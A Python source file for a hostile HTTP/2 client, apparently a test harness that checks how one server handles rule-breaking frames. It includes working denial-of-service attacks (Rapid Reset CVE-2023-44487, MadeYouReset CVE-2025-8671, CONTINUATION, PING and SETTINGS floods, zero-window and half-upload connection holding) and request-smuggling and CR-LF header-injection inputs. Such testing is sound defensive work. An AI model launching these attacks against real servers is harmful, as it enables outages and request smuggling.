"""An HTTP/2 client that breaks the rules, or holds a server by them: `h2_hostile.py ADDRESS [--ca FILE] [--path PATH] [--token TOKEN]`.

Reads the names of attacks, one a line, from standard input; answers each with a line of JSON: what the server sent until it
closed the connection or PATIENCE passed. `codes` are the error codes of RST_STREAM by stream, `goaway` is that of the last GOAWAY.
An attack of HOLDERS stays on its connections until the input ends. Frames are made by hyperframe and header blocks by hpack, both
beneath the h2 package, which itself would not break a rule.
"""

import argparse
import json
import socket
import ssl
import sys
import time

import hpack
from h2.errors import ErrorCodes
from hyperframe.exceptions import UnknownFrameError
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: How long an answer may take on a busy machine.
PATIENCE = 60
#: What a server is sent at most of a flood, in bytes: of one that it has to answer more than all buffers of the kernel hold.
FLOOD = 24 << 20
ANSWERED = 96 << 20


class Connection:
    """One connection, its preface sent."""

    def __init__(self, options, preface=PREFACE, settings={}, buffer=None):
        self.options = options
        host, port = options.address.rsplit(":", 1)
        raw = socket.socket()
        if buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        raw.settimeout(PATIENCE)
        raw.connect((host, int(port)))
        if options.ca:
            context = ssl.create_default_context(cafile=options.ca)
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname=host)
            assert raw.selected_alpn_protocol() == "h2"
        self.socket, self.encoder, self.rest = raw, hpack.Encoder(), b""
        self.decoder = hpack.Decoder()
        self.seen = {"goaway": None, "codes": {}, "statuses": {}, "data": {}, "closed": False, "frames": 0}
        self.send(preface)
        if preface == PREFACE:
            self.send(SettingsFrame(settings=settings))

    def send(self, *parts):
        """Sends frames or bytes. What the server no longer takes is not an error: it may have said why."""
        data = b"".join(part.serialize() if isinstance(part, Frame) else part for part in parts)
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def flood(self, piece, most, patience):
        """Sends a piece again and again and reads nothing, until it is held up, the server is gone, or it has taken so much."""
        self.socket.settimeout(patience)
        end, sent = None, 0
        while end is None and sent < most:
            try:
                self.socket.sendall(piece)
                sent += len(piece)
            except TimeoutError:
                end = "held up"
            except OSError:
                end = "gone"
        self.socket.settimeout(PATIENCE)
        self.seen["flood"] = end or "taken"

    def block(self, headers=(), method="GET", path="/healthz", **others):
        pseudo = {":method": method, ":scheme": "http", ":path": path, ":authority": "x", **others}
        pseudo = [(name, value) for name, value in pseudo.items() if value is not None]
        return self.encoder.encode([*pseudo, *headers], huffman=False)

    def ask(self, stream=1, end=True, block=None, **request):
        flags = ["END_HEADERS"] + ["END_STREAM"] * end
        block = self.block(**request) if block is None else block
        return HeadersFrame(stream, data=block, flags=flags)

    def read(self, until=lambda seen: False):
        """Reads until the connection ends, `until` is content or PATIENCE has passed; acknowledges what has to be."""
        end = time.monotonic() + PATIENCE
        while not until(self.seen) and time.monotonic() < end:
            try:
                piece = self.socket.recv(65536)
            except ssl.SSLError as error:
                if "timed out" in str(error):
                    break
                piece = b""
            except TimeoutError:
                break
            except OSError:
                piece = b""
            if not piece:
                self.seen["closed"] = True
                break
            self.rest += piece
            self.frames()
        return self.seen

    def frames(self):
        while len(self.rest) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self.rest[:9]))
            except UnknownFrameError:
                raise SystemExit(f"no frame of HTTP/2: {self.rest[:200]!r}")
            if len(self.rest) < 9 + length:
                return
            frame.parse_body(memoryview(self.rest[9:9 + length]))
            self.rest = self.rest[9 + length:]
            self.seen["frames"] += 1
            self.note(frame)

    def note(self, frame):
        stream = str(frame.stream_id)
        if isinstance(frame, GoAwayFrame):
            self.seen["goaway"] = ErrorCodes(frame.error_code).name
        elif isinstance(frame, RstStreamFrame):
            if len(self.seen["codes"]) < 8:
                self.seen["codes"][stream] = ErrorCodes(frame.error_code).name
        elif isinstance(frame, HeadersFrame):
            fields = dict(self.decoder.decode(frame.data))
            self.seen["statuses"][stream] = int(fields[":status"])
        elif isinstance(frame, DataFrame):
            self.seen["data"][stream] = self.seen["data"].get(stream, 0) + len(frame.data)
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.send(SettingsFrame(flags=["ACK"]))
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.send(PingFrame(opaque_data=frame.opaque_data, flags=["ACK"]))

    def answered(self, stream=1):
        """Reads until the stream has its end, or the connection."""
        stream = str(stream)
        return self.read(lambda seen: stream in seen["codes"] or stream in seen["statuses"] or seen["goaway"])


def raw(kind, flags, stream, payload):
    """A frame that hyperframe would not make."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


# What ends a connection or a stream at once.

def ended(*make, **of_connection):
    """An attack that sends what each function makes of the connection, and waits for its end."""
    def attack(options):
        connection = Connection(options, **of_connection)
        for part in make:
            connection.send(part(connection))
        return connection.read(lambda seen: seen["goaway"])
    return attack


def reset(*make, stream=1):
    """As `ended`, for the end of one stream; the connection has to answer another one after that."""
    def attack(options):
        connection = Connection(options)
        for part in make:
            connection.send(part(connection))
        connection.answered(stream)
        connection.send(connection.ask(stream + 2))
        return connection.answered(stream + 2)
    return attack


def post(connection, length, **request):
    """The head of a request that says how long its body is."""
    fields = [("content-length", str(length)), ("content-type", "application/json")]
    return connection.ask(end=False, method="POST", path="/orin-jp6.2/resolve", headers=fields, **request)


def field(name, value):
    return reset(lambda c: c.ask(block=c.block(headers=[(name, value)])))


def body_after_end(options):
    """A piece of a body behind the end of its request, which may be answered by then."""
    connection = Connection(options)
    connection.send(connection.ask(), DataFrame(1, b"x"))
    return connection.read(lambda seen: seen["goaway"] or "1" in seen["codes"])


#: Fits the table of 4,096 bytes, so that a further mention of it takes a byte (62, the first place of the table).
LONG = "v" * 4000


def long_list(connection, headers):
    block = connection.block(headers=headers)
    pieces = [block[at:at + 16_000] for at in range(0, len(block), 16_000)]
    more = [ContinuationFrame(1, data=piece) for piece in pieces[1:]]
    more[-1].flags.add("END_HEADERS")
    return b"".join(f.serialize() for f in [HeadersFrame(1, data=pieces[0], flags=["END_STREAM"]), *more])


PROTOCOL = {
    "preface-wrong": lambda options: Connection(options, preface=PREFACE[:-6] + b"XX\r\n\r\n").read(),
    "headers-on-0": ended(lambda c: raw(1, 5, 0, c.block())),
    "data-on-0": ended(lambda c: raw(0, 0, 0, b"x")),
    "rst-on-0": ended(lambda c: raw(3, 0, 0, bytes(4))),
    "even-stream": ended(lambda c: raw(1, 5, 2, c.block())),
    "older-stream": ended(lambda c: c.ask(5), lambda c: c.ask(3)),
    "data-on-idle": ended(lambda c: DataFrame(1, b"x")),
    "rst-on-idle": ended(lambda c: RstStreamFrame(1, 8)),
    "window-on-idle": ended(lambda c: WindowUpdateFrame(1, 1)),
    "continuation-alone": ended(lambda c: ContinuationFrame(1, data=b"x", flags=["END_HEADERS"])),
    "headers-interrupted": ended(lambda c: HeadersFrame(1, data=c.block()), lambda c: PingFrame()),
    "continuation-of-another": ended(
        lambda c: HeadersFrame(1, data=c.block()), lambda c: ContinuationFrame(3, data=b"", flags=["END_HEADERS"])),
    "push-promise": ended(lambda c: raw(5, 4, 1, (2).to_bytes(4, "big") + c.block())),
    "padding-too-long": ended(lambda c: c.ask(end=False, method="POST"), lambda c: raw(0, 8, 1, b"\xffx")),
    "hpack-garbage": ended(lambda c: raw(1, 5, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff")),
    "hpack-table-too-large": ended(lambda c: raw(1, 5, 1, b"\x3f\xe1\xff\xff\x07" + c.block())),
    "frame-too-long": ended(lambda c: (1 << 20).to_bytes(3, "big") + bytes(6)),  # its head alone
    "ping-of-7": ended(lambda c: raw(6, 0, 0, bytes(7))),
    "settings-of-5": ended(lambda c: raw(4, 0, 0, bytes(5))),
    "settings-ack-of-6": ended(lambda c: raw(4, 1, 0, bytes(6))),
    "settings-on-1": ended(lambda c: raw(4, 0, 1, b"")),
    "settings-window": ended(lambda c: raw(4, 0, 0, b"\0\4\x80\0\0\0")),
    "settings-frame-size": ended(lambda c: raw(4, 0, 0, b"\0\5\0\0\0\1")),
    "settings-push-2": ended(lambda c: raw(4, 0, 0, b"\0\2\0\0\0\2")),
    "window-zero": ended(lambda c: raw(8, 0, 0, bytes(4))),
    "window-of-3": ended(lambda c: raw(8, 0, 0, bytes(3))),
    "window-overflow": ended(lambda c: WindowUpdateFrame(0, 0x7FFFFFFF)),
    "stream-window-zero": ended(lambda c: c.ask(end=False, method="POST"), lambda c: raw(8, 0, 1, bytes(4))),
    "stream-window-overflow": reset(
        lambda c: c.ask(end=False, method="POST", path="/orin-jp6.2/resolve"), lambda c: WindowUpdateFrame(1, 0x7FFFFFFF)),
    "priority-of-itself": reset(lambda c: c.ask(end=False, method="POST", path="/orin-jp6.2/resolve"), lambda c: PriorityFrame(1, depends_on=1)),
    "body-too-long": reset(lambda c: post(c, 2), lambda c: DataFrame(1, b"{}GET /smuggled", flags=["END_STREAM"])),
    "body-too-short": reset(lambda c: post(c, 99), lambda c: DataFrame(1, b"{}", flags=["END_STREAM"])),
    "two-lengths": reset(lambda c: c.ask(end=False, method="POST", path="/orin-jp6.2/resolve",
                                         headers=[("content-length", "2"), ("content-length", "3")])),
    "body-after-end": body_after_end,
    "upper-case-name": field("X-Upper", "a"),
    "transfer-encoding": field("transfer-encoding", "chunked"),
    "connection-field": field("connection", "close"),
    "te-gzip": field("te", "gzip"),
    "cr-lf-in-value": field("x", "a\r\ncontent-length: 5"),
    "nul-in-value": field("x", "a\0b"),
    "colon-in-name": field("x:y", "a"),
    "empty-name": field("", "a"),
    "unknown-pseudo": field(":x", "a"),
    "pseudo-after-field": reset(lambda c: c.ask(block=c.encoder.encode([("x", "y")]) + c.block())),
    "two-paths": reset(lambda c: c.ask(block=c.block() + c.encoder.encode([(":path", "/metrics")]))),
    "no-path": reset(lambda c: c.ask(path=None)),
    "empty-path": reset(lambda c: c.ask(path="")),
    "no-method": reset(lambda c: c.ask(method=None)),
    "connect": reset(lambda c: c.ask(method="CONNECT", path=None, **{":scheme": None, ":authority": "127.0.0.1:1"})),
    "space-in-path": reset(lambda c: c.ask(path="/healthz HTTP/1.1\r\nX: y")),
    "two-hosts": reset(lambda c: c.ask(headers=[("host", "y"), ("host", "z")])),
    "other-host": reset(lambda c: c.ask(headers=[("host", "y")])),
    "list-too-long": reset(lambda c: long_list(c, [(f"x-{n}", LONG) for n in range(10)])),
    "hpack-bomb": reset(lambda c: c.ask(block=c.block(headers=[("x-bomb", LONG)]) + b"\xbe" * 12_000)),
}


# Floods: as fast as they are taken, and nothing is read.

def flooding(piece, setup=lambda c: b"", answered=False):
    """Where all of it was taken, the connection has to answer a request after it."""
    def attack(options):
        connection = Connection(options, buffer=4096 if answered else None)
        connection.send(setup(connection))
        made = piece(connection)
        most, patience = (ANSWERED, 5) if answered else (FLOOD, PATIENCE)
        connection.flood((made.serialize() if isinstance(made, Frame) else made) * 100, most, patience)
        if connection.seen["flood"] == "held up":
            return connection.seen
        connection.send(connection.ask(3))
        return connection.answered(3)
    return attack


def rapid_reset(options):
    """CVE-2023-44487."""
    connection = Connection(options)
    for first in range(1, 20_001, 200):
        frames = [[connection.ask(n, path=options.path), RstStreamFrame(n, 8)] for n in range(first, first + 200, 2)]
        if not connection.send(*sum(frames, [])):
            break
    return connection.read(lambda seen: seen["goaway"])


def made_you_reset(options):
    """CVE-2025-8671: requests that the server itself has to reset, while it works on them."""
    connection = Connection(options)
    for n in range(1, 20_001, 2):
        over = WindowUpdateFrame(n, 0x7FFFFFFF)
        if not connection.send(connection.ask(n, path=options.path), over):
            break
    return connection.read(lambda seen: seen["goaway"])


FLOODS = {
    "rapid-reset": rapid_reset,
    "made-you-reset": made_you_reset,
    "continuation-flood": flooding(
        lambda c: ContinuationFrame(1, data=b"\0\1x" + b"\x7f\xa1\x1e" + b"v" * 4000), lambda c: HeadersFrame(1, data=c.block())),
    "continuation-empty": flooding(lambda c: ContinuationFrame(1), lambda c: HeadersFrame(1, data=c.block())),
    "settings-flood": flooding(lambda c: SettingsFrame(settings={4: 65535}), answered=True),
    "ping-flood": flooding(lambda c: PingFrame(opaque_data=b"8 bytes."), answered=True),
    "empty-data-flood": flooding(
        lambda c: DataFrame(1), lambda c: c.ask(end=False, method="POST", path="/orin-jp6.2/resolve")),
    "priority-flood": flooding(lambda c: PriorityFrame(1, depends_on=3)),
    "window-flood": flooding(lambda c: WindowUpdateFrame(0, 1)),
    "unknown-flood": flooding(lambda c: raw(0xBA, 0, 0, bytes(8))),
}


# What stays.

def zero_window(options):
    """Holds eight streams of a large file open on each of 50 connections, by a window of no bytes."""
    held = []
    for _ in range(50):
        connection = Connection(options, settings={4: 0}, buffer=4096)
        connection.send(*(connection.ask(n, path=options.path) for n in range(1, 16, 2)))
        held.append(connection)
    statuses = [c.read(lambda seen: len(seen["statuses"]) == 8)["statuses"] for c in held]
    return held, {"statuses": sum((list(s.values()) for s in statuses), [])}


def small_window(options):
    """As that, by a window of one byte that is never filled again: a piece of each file waits in the server."""
    held = []
    for _ in range(50):
        connection = Connection(options, settings={4: 1}, buffer=4096)
        connection.send(*(connection.ask(n, path=options.path) for n in range(1, 16, 2)))
        held.append(connection)
    seen = [c.read(lambda seen: len(seen["data"]) == 8)["data"] for c in held]
    return held, {"data": sum((list(s.values()) for s in seen), [])}


def half_uploads(options):
    """Uploads that stop after a byte, eight on each of ten connections."""
    held = []
    for _ in range(10):
        connection = Connection(options)
        fields = [("content-type", "multipart/form-data; boundary=b"), ("authorization", f"Bearer {options.token}")]
        for n in range(1, 16, 2):
            connection.send(connection.ask(n, end=False, method="POST", path="/legacy/", headers=fields), DataFrame(n, b"-"))
        held.append(connection)
    return held, {}


def half_prefaces(options):
    """The preface, cut after each of its bytes."""
    return [Connection(options, preface=PREFACE[:n]) for n in range(len(PREFACE))], {}


def idle(options):
    """Connections that say hello and nothing more."""
    held = [Connection(options) for _ in range(20)]
    for connection in held:
        connection.read(lambda seen: seen["frames"] >= 2)
    return held, {}


HOLDERS = {
    "zero-window": zero_window,
    "small-window": small_window,
    "half-uploads": half_uploads,
    "half-prefaces": half_prefaces,
    "idle": idle,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("--ca")
    parser.add_argument("--path", default="/healthz")
    parser.add_argument("--token", default="")
    options = parser.parse_args()
    held = []
    for line in iter(sys.stdin.readline, ""):
        name = line.strip()
        if name in HOLDERS:
            connections, seen = HOLDERS[name](options)
            held.append(connections)
        elif name == "ends":
            seen = {"ends": [c.read() for connections in held for c in connections]}
            held.clear()
        else:
            seen = (PROTOCOL.get(name) or FLOODS[name])(options)
        print(json.dumps(seen), flush=True)


main()
